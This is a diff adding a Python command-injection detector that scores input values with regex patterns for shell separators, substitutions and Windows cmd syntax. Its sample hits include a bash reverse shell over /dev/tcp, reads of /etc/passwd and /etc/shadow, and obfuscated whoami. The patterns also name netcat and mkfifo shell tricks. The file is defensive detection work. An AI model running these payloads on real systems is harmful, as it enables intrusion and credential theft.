@@ -1,0 +1,331 @@
+"""Command injection: a value that a shell would read as a command of its own.
+
+CWE-78. A command counts when it stands where a shell begins one (the value's start, after `;`, `|`, `&`, a new line,
+inside a substitution) and is called like one (options, paths, redirections), or when only a shell writes so
+(`$(…)`, here strings, `/dev/tcp`, loops of cmd.exe). Sources: POSIX.1-2017, Shell Command Language; the GNU Bash
+manual; Microsoft's command reference.
+"""
+
+import re
+
+from delicti.detect.contexts import ANYWHERE, CERTAIN, POSSIBLE, PROBABLE, STRONG, WEAK, Context, Place, Verdict
+from delicti.detect.shell_words import ENGLISH, PLAIN, known, plain
+
+CLASS, TECHNIQUE, WEAKNESS = "rce", "T1059", "CWE-78"
+CONTEXTS = ANYWHERE
+ANCHORS = (
+    r"[;|`\n\r]",
+    r"&&|&\s*[a-z@('\"]|\s&\s",
+    r"\$\(|\$\{|\$\[|[<>]\(",
+    r"<<<|>\s*&|>\s*/|/dev/(?:tcp|udp)",
+    r"(?:^|[\s'\"(;|&])(?:\.{0,2}/)?(?:usr/(?:local/)?)?s?bin/",
+    r"(?:^|['\"(@]|\W)(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|zsh|ksh|csh|dash|python[\d.]*|perl|ruby|php|ping|sleep|nslookup|"
+    r"dig|ifconfig|netstat|chmod|rm|echo|printf|powershell|cmd|certutil|dir|type|net|time|find|grep|awk|sed|tar|base64|strace|nohup|"
+    r"env|set|alias|visudo|pip[3x]?|chef\S*|ansible\S*|cscli|dd|cp|mv|busybox|gcc|kill|ps|zstdcat|gunzip|flock|cpulimit|perf|"
+    r"tasklist|systeminfo|ipconfig|reg|wmic|mshta|bcdboot|invoke-\w+|iex|iwr|ll|rc|nid|aa-\w+)(?:\.exe)?(?:[\s'\"+,/<>|;&^$\\){}]|$)",
+    r"(?:^|\s)(?:if|for)\s.{1,80}(?:==|%|\b(?:equ|neq|lss|leq|gtr|geq|exist|errorlevel|defined|do)\b)",
+    r"system|exec|popen|passthru|spawn|qx\{|@\{\s*\[",
+    r"\(\)\s*\{",
+    r"/\?{1,3}|\?\?[/\w]|/\[|[\w/]\[\w|\{\w*,|[\w/]\*[\w/]",
+    r"[\w]['\"\\$^][\w'\"\\$@*^]|['\"]{2}\w",
+    r"^['\"][a-z]{2,12}['\"]",
+    r"^[~!][-+\d!]",
+    r"\$[a-z_]\w*|\$[@*?!_$-]",
+    r"%[a-z]{3,20}%",
+    r"[\r\n]",
+)
+HITS = (
+    ";id",
+    "127.0.0.1; cat /etc/passwd",
+    "| whoami",
+    "$(sleep 5)",
+    "`uname -a`",
+    "a;ls${IFS}-la",
+    "& ping -n 10 127.0.0.1 &",
+    "cat /etc/passwd",
+    "w'h'oami;c''at /et''c/passwd",
+    "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
+    "/bin/cat /etc/shadow",
+    "|dir c:\\",
+)
+LOOKALIKES = (
+    "AT&T",
+    "salt & pepper; cat food",
+    "find your date",
+    "R&D | research",
+    "make time for sleep",
+    "$5 (about 4 euro)",
+    "price > 5 && price < 10",
+    "net income; top line",
+    "Tom; who is he",
+    "a|b|c",
+    "use `code` here",
+    "echo park",
+)
+
+_START = re.compile(r"(?P<mark>;|\|\|?|&&?|\n|\r|`|\$\(|[<>]\(|\$\{`)[\s@(){}'\"]*(?P<rest>[^\s].*)", re.DOTALL)
+_WORD = re.compile(r"[^\s;|&<>()`'\"{}]+")
+_FIRST = re.compile(r"^[\s'\"(@!+]*(?P<word>[\w./\\~?*\[\]:$-]+)(?P<after>.{0,400})", re.DOTALL)
+_ARGUED = re.compile(
+    r"^['\"]?(?:\s+|<+|>+|/(?=[a-z?]\b))(?:-{1,2}\w|/[\w?*\[\]/]|\.{1,2}/|~/|\$|[<>|;&]|[a-z]:[\\/]|https?:|\d{1,3}(?:\.\d{1,3}){3}|[\w./*-]+\.(?:sh|py|php|txt|log|exe|ps1|conf|pl|zst|gz)\b|\*|\d+\s*(?:$|[;|&])|['\"$(])",
+    re.IGNORECASE,
+)
+_STANDS = re.compile(r"^['\"`)]?\s*(?:$|[;|&#)`\n]|\}|>|<)")
+_REVERSE = re.compile(
+    r"/dev/(?:tcp|udp)/|>&\s*/dev|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*\S+.*?(?:-[ec]\b|-\w*l\w*p|\d{2,5})|mkfifo\s|bash\s+-i\b|0>&1",
+    re.IGNORECASE,
+)
+_SUBST = re.compile(
+    r"\$\((?!\()\s*(?P<inner>[^)]*)\)?|`(?P<tick>[^`]{1,200})`|\$\(\((?P<sum>[^)]*)\)\)|\$\[(?P<old>[^\]]*)\]|[<>]\((?P<proc>[^)]*)\)"
+)
+_FORK = re.compile(r"[\w.:]+\s*\(\s*\)\s*\{[^}]*[|&][^}]*\}\s*;?")
+_CMD_FOR = re.compile(
+    r"(?:^|[&|;\"\s])\s*for\s+(?:/[dflr]\s+)*(?:\S{1,80}\s+|\"[^\"]*\"\s+)?%{0,2}\S{1,20}\s+in\s*\([^)]*\)?\s*(?:do\b|\)\s*do\b)",
+    re.IGNORECASE,
+)
+_CMD_IF = re.compile(
+    r"(?:^|[&|;\"(])\s*if\s+(?:/i\s+)?(?:not\s+)?(?:/i\s+)?(?:(?:exist|defined|errorlevel|cmdextversion)\s+\S+\s+\S|"
+    r"\S+(?:\s\S+)?\s*(?:={2,3}|\b(?:equ|neq|lss|leq|gtr|geq)\b)\s*\S+)",
+    re.IGNORECASE,
+)
+_GLOBBED = re.compile(r"/(?:[\w?*\[\]!,-]*[?*\[][\w?*\[\]!,/-]*)/?(?:[\w?*\[\]!-]*[?*\]][\w?*\]\[!-]*)?")
+_PATHED = re.compile(r"(?:^|[\s'\"(;|&`=,])/(?:usr/(?:local/)?)?s?bin/[\w.\-]+", re.IGNORECASE)
+_PERL = re.compile(r"@\{\s*\[[^\]]*\]?|\bqx\s*\{")
+_CALLED = re.compile(
+    r"(?:^|[\W_])(?:system|shell_exec|passthru|popen|proc_open|exec|Process\.spawn|os\.(?:system|popen)|subprocess\.\w+|Runtime\.exec|IO\.popen|Kernel\.\w+|"
+    r"wscript\.shell)\s*(?:\(|\s)\s*['\"](?P<command>[^'\"]{1,200})",
+    re.IGNORECASE,
+)
+_HISTORY = re.compile(r"^(?:~[+-]\d*|!(?:!|-?\d+(?:!-?\d+)*))$|^~\d$")
+_ALIAS = re.compile(r"^alias\s+(?:[-+]\w+\s*(?:\+\s*)?)*['\"]?[\w.-]+['\"]?=\S")
+_PROSE = re.compile(r"\b[A-Za-z]{3,}[,.]? [a-z]{2,} [a-z]{2,}\b")
+_ASSIGNED = re.compile(r"(?:^|[;&\s])([A-Za-z_]\w{0,10})=(\S{1,40}?)\s*(?:;|&&)\s*.*\$\{?\1\b", re.DOTALL)
+
+
+def judge(value: str, context: Context) -> Verdict | None:
+    """The strongest reading as a command line, once as sent and once as a shell would see it."""
+    best = _read(value, context, hidden=False)
+    seen = plain(value)
+    if seen != value and (best is None or best.confidence < STRONG):
+        other = _read(seen, context, hidden=True)
+        if other is not None and (best is None or other.confidence > best.confidence):
+            return other
+    return best
+
+
+def _read(value: str, context: Context, *, hidden: bool) -> Verdict | None:
+    best: Verdict | None = None
+    for reading in (_only_shells, _separated, _first, _windows):
+        found = reading(value, context, hidden)
+        if found is not None and (best is None or found.confidence > best.confidence):
+            best = found
+            if best.confidence >= CERTAIN:
+                break
+    return best
+
+
+def _why(name: str) -> str:
+    return f"A shell would run the command {name}."
+
+
+def _separated(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: FBT001
+    best: Verdict | None = None
+    at = 0
+    for _ in range(12):
+        match = _START.search(value, at)
+        if match is None:
+            break
+        at = match.start("rest")
+        mark = match["mark"]
+        rest = match["rest"]
+        word = _WORD.match(rest)
+        if word is None:
+            at += 1
+            continue
+        name = known(word[0].rstrip(",.:")) if word[0].rstrip(".,:") == word[0] else None
+        if name is None:
+            continue
+        after = rest[word.end() :]
+        sure = _sure(name, word[0], after, mark, value[: match.start()], hidden, context)
+        if sure and (best is None or sure > best.confidence):
+            best = Verdict(sure, value[match.start() :][:300], _why(name))
+    return best
+
+
+def _sure(name: str, word: str, after: str, mark: str, before: str, hidden: bool, context: Context) -> float:  # noqa: C901, FBT001, PLR0913
+    if (
+        context.place in (Place.AGENT, Place.REFERRER)
+        and mark in (";", "&")
+        and before.strip()
+        and context.place is Place.REFERRER
+        and "?" in before
+        and mark == "&"
+    ):
+        return 0.0
+    argued = _ARGUED.match(after) is not None
+    stands = _STANDS.match(after) is not None
+    everyday = name in ENGLISH and name not in PLAIN
+    if "/" in word or word.endswith((".exe",)):
+        return CERTAIN
+    if mark in ("`", "$(", "<(", ">("):
+        if mark == "`" and before.strip() and not argued and everyday:
+            return WEAK
+        return STRONG if argued or not everyday or stands else PROBABLE
+    if argued:
+        return STRONG if not everyday or before == "" or hidden else PROBABLE
+    if stands:
+        if everyday:
+            return (
+                POSSIBLE
+                if not before.strip()
+                or re.fullmatch(r"[\w.\-]{0,15}\)?|.*['\")\]}]\s*", before, re.DOTALL)
+                and mark != "|"
+                and not before.isalpha()
+                else WEAK
+            )
+        if mark in ("|", "&", ";") and re.search(r"\w\s*[|&;]\s*\w+\s*[|&;]", before):
+            return WEAK
+        return STRONG if not before.strip() or mark not in ("|", ";") or not re.search(r" \w+$", before) else PROBABLE
+    if hidden and not everyday:
+        return PROBABLE
+    if not before.strip() and mark != "\n":
+        return PROBABLE if not everyday else WEAK
+    return (
+        WEAK
+        if everyday or _PROSE.search(before + mark + word + after)
+        else POSSIBLE
+        if not re.match(r"\s+[a-z]{3,}\b", after)
+        else WEAK
+    )
+
+
+def _first(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: C901, FBT001, PLR0911
+    match = _FIRST.match(value)
+    if match is None:
+        return None
+    word, after = match["word"], match["after"]
+    quoted = value.lstrip()[:1] in "'\"" and re.match(r"['\"]", after) is not None
+    if context.place is Place.PATH:
+        return None
+    name = known(word)
+    if name is None:
+        return None
+    shown = value[:300]
+    everyday = name in ENGLISH and name not in PLAIN
+    if "/" in word and re.match(r"^[./]*(?:usr/(?:local/)?)?s?bin/", word):
+        return Verdict(STRONG, shown, _why(name))
+    if "/" in word or "\\" in word:
+        return None
+    argued = _ARGUED.match(after)
+    if argued and not _PROSE.search(value):
+        strong = re.match(r"['\"]?\s*(?:-|/\w|<|>|\||;|\$|[a-z]:[\\/]|https?:|\.\./)", after, re.IGNORECASE)
+        if everyday:
+            return Verdict(
+                PROBABLE
+                if strong and re.search(r"\s/\w+/|\s-{1,2}\w|\|\s*\w|[a-z]:[\\/]|/dev/", after, re.IGNORECASE)
+                else WEAK,
+                shown,
+                _why(name),
+            )
+        return Verdict(PROBABLE if strong else POSSIBLE, shown, _why(name))
+    if _STANDS.match(after) and not after.strip("'\"` )"):
+        if quoted and not everyday:
+            return Verdict(POSSIBLE, shown, _why(name))
+        if hidden and name in PLAIN:
+            return Verdict(STRONG, shown, _why(name))
+        return Verdict(WEAK, shown, _why(name))
+    if _STANDS.match(after) and name in PLAIN and len(name) > 1:
+        return Verdict(PROBABLE if re.match(r"['\"]?\s*[;|&`]", after) else POSSIBLE, shown, _why(name))
+    if hidden and name in PLAIN:
+        return Verdict(PROBABLE, shown, _why(name))
+    inner = re.match(r"^\s+(?P<next>[\w./-]+)", after)
+    if (
+        name in ("time", "nohup", "strace", "sudo", "env", "exec", "xargs", "timeout", "nice", "busybox", "flock")
+        and inner
+        and (other := known(inner["next"]))
+        and other in PLAIN
+        and not _PROSE.search(value)
+    ):
+        return Verdict(POSSIBLE, shown, _why(other))
+    return Verdict(WEAK, shown, _why(name)) if name in PLAIN else None
+
+
+def _only_shells(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: C901, FBT001, PLR0911
+    if match := _REVERSE.search(value):
+        return Verdict(CERTAIN, match[0][:300], "A shell would open a connection back to the sender.")
+    if match := _FORK.search(value):
+        return Verdict(STRONG, match[0][:300], "A shell would define a function that starts itself without end.")
+    if match := _CALLED.search(value):
+        return Verdict(
+            STRONG if known(match["command"].split(" ")[0]) else POSSIBLE,
+            match[0][:300],
+            "An interpreter would hand the text to a shell.",
+        )
+    if match := _PERL.search(value):
+        return Verdict(PROBABLE, match[0][:300], "Perl would run what stands in the brackets of a text.")
+    if match := _PATHED.search(value):
+        if context.place is not Place.PATH and not _PROSE.search(value[: match.start()]):
+            return Verdict(PROBABLE, match[0].strip()[:300], "It names a program of the server by its path.")
+    if match := _SUBST.search(value):
+        inner = next((part for part in match.groups() if part is not None), "")
+        word = re.match(r"\s*[\w./-]+", inner)
+        if word and known(word[0].strip()):
+            return Verdict(STRONG, match[0][:300], "A shell would run the command in the substitution.")
+        if match["sum"] is not None or match["old"] is not None:
+            return Verdict(
+                PROBABLE if re.search(r"\d\s*[-+*/]\s*\d|\$", inner) else WEAK,
+                match[0],
+                "A shell would work the sum out.",
+            )
+        if match[0].startswith("$(") and inner.strip() and not re.match(r"[\"'#.]", inner):
+            return Verdict(
+                POSSIBLE if not re.search(r"\$\((?:document|this|window|selector|function)\b", value) else WEAK,
+                match[0][:300],
+                "A shell would run the command in the substitution.",
+            )
+    if (match := _ASSIGNED.search(value)) and context.place is not Place.REFERRER:
+        return Verdict(PROBABLE, match[0][:300], "A shell would put the command together from variables.")
+    if "<<<" in value and re.search(r"\w<<<", value):
+        return Verdict(PROBABLE, value[:300], "A shell would feed the text to a command.")
+    if match := _GLOBBED.search(value):
+        text = match[0]
+        marks = len(re.findall(r"[?*]|\[", text))
+        if (
+            context.place is not Place.PATH
+            and (
+                re.match(r"^(?:[\w;|\s]*\s*)?/", value)
+                or value[: match.start()].strip()
+                and known(value[: match.start()].split()[0])
+            )
+            and "://" not in value
+            and (marks >= 3 or re.search(r"/(?:etc|et\*|bi|usr|us|\?+)[/\[?*]|/\[", text, re.IGNORECASE))
+            and re.search(r"\w", text)
+        ):
+            return Verdict(PROBABLE, text[:300], "A shell would fill the pattern in with a file of the server.")
+    if _HISTORY.match(value):
+        return Verdict(
+            POSSIBLE
+            if len(value) > 1 and value[0] == "!" and context.place is Place.VALUE and value in ("!!",)
+            else WEAK,
+            value,
+            "A shell would repeat a command.",
+        )
+    if _ALIAS.match(value):
+        return Verdict(PROBABLE, value[:300], "A shell would give a command another name.")
+    return None
+
+
+def _windows(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: ARG001, FBT001
+    if match := _CMD_FOR.search(value):
+        return Verdict(STRONG, match[0].strip()[:300], "The Windows shell would run a loop.")
+    if match := _CMD_IF.search(value):
+        told = re.search(
+            r"%|\b(?:equ|neq|lss|leq|gtr|geq|errorlevel|exist|defined|cmdextversion)\b|==", match[0], re.IGNORECASE
+        )
+        if told and not re.search(r"==\s*[\w.]+\s*[:{)]|\(.*\)\s*\{", value):
+            return Verdict(
+                PROBABLE if not value.rstrip().endswith("{") else WEAK,
+                match[0].strip()[:300],
+                "The Windows shell would run a condition.",
+            )
+    return None
